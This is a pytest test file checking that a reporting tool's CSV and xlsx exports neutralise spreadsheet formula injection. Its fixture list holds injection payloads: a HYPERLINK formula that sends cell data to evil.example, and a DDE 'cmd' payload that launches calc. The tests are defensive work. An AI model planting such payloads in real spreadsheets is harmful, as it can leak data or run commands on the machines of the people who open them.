"""CSV and xlsx exports never carry a live formula (OWASP "CSV injection"), and survive control characters."""

from __future__ import annotations

import csv
import io

import pytest

from reports.cli import main
from reports.safe_export import neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31mred\x1b[0m",
]
HEADER = "incident_id,date,province,event_type,perpetrator,killed_total,killed_security,dataset\n"


def _data(tmp_path):
    rows = [
        f'h-{i},2024-0{1 + i % 6}-1{i},Punjab,attack,"{name.replace(chr(34), chr(34) * 2)}",{i + 1},1,test\n'
        for i, name in enumerate(HOSTILE)
    ]
    p = tmp_path / "hostile.csv"
    p.write_text(HEADER + "".join(rows), encoding="utf-8", newline="")
    return p


def test_neutralise_follows_owasp():
    for text in HOSTILE[:-1]:
        assert neutralise(text).startswith("'")
    assert neutralise("-3") == "-3" and neutralise("+1.5") == "+1.5" and neutralise("TTP") == "TTP"


def test_table_csv_has_no_live_formula_and_numbers_stay_numbers(tmp_path, capsys):
    data = _data(tmp_path)
    code = main(["table", "--data", str(data), "--period", "2024", "--by", "perpetrator", "--format", "csv"])
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    names = [r["perpetrator"] for r in rows]
    for name in names:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name
    assert "'=cmd|' /C calc'!A0" in names and "'+1+1" in names and "'@SUM(1,2)" in names
    assert all(r["incidents"].isdigit() for r in rows)  # counts not quoted nor prefixed
    assert sum(int(r["incidents"]) for r in rows) == len(HOSTILE)


def test_table_xlsx_writes_text_cells_as_text(tmp_path, capsys):
    from openpyxl import load_workbook

    data = _data(tmp_path)
    out = tmp_path / "t.xlsx"
    argv = ["table", "--data", str(data), "--period", "2024", "--by", "perpetrator", "--format", "xlsx"]
    assert main([*argv, "--out", str(out)]) == 0  # the ANSI escape does not crash it
    ws = load_workbook(out)["table"]
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for text in HOSTILE[:5]:
        assert text in cells, text
        assert cells[text].data_type == "s"  # a string, not a formula
    assert "\\x1b[31mred\\x1b[0m" in cells  # control characters written visibly
    with open(out, "rb") as fh:
        import zipfile

        sheet = zipfile.ZipFile(fh).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element anywhere
    numbers = [row[1].value for row in ws.iter_rows(min_row=2)]
    assert all(isinstance(v, int) for v in numbers) and sum(numbers) == len(HOSTILE)


def test_validate_sidecar_neutralises_rejected_values(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    p = tmp_path / "bad.csv"
    p.write_text(
        HEADER + 'b-1,2024-01-05,Punjab,attack,TTP,"=1+1",1,test\nb-2,2024-01-06,Punjab,attack,"@SUM(1,2)",2,1,test\n'
    )
    rejects = tmp_path / "rej.csv"
    assert main(["validate", str(p), "--rejects", str(rejects), "-q"]) == 1
    text = rejects.read_text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(not str(v).startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert "'=1+1" in text


@pytest.mark.parametrize("value", ["=1+1", "\x1b[2J"])
def test_write_csv_helper_used_by_diff_and_versions(tmp_path, value):
    import pandas as pd

    from reports.commands._common import write_csv

    out = write_csv(pd.DataFrame({"a": [value], "n": [3]}), tmp_path / "x.csv")
    row = next(csv.DictReader(io.StringIO(out.read_text())))
    assert row["n"] == "3" and row["a"] == ("'=1+1" if value == "=1+1" else value)
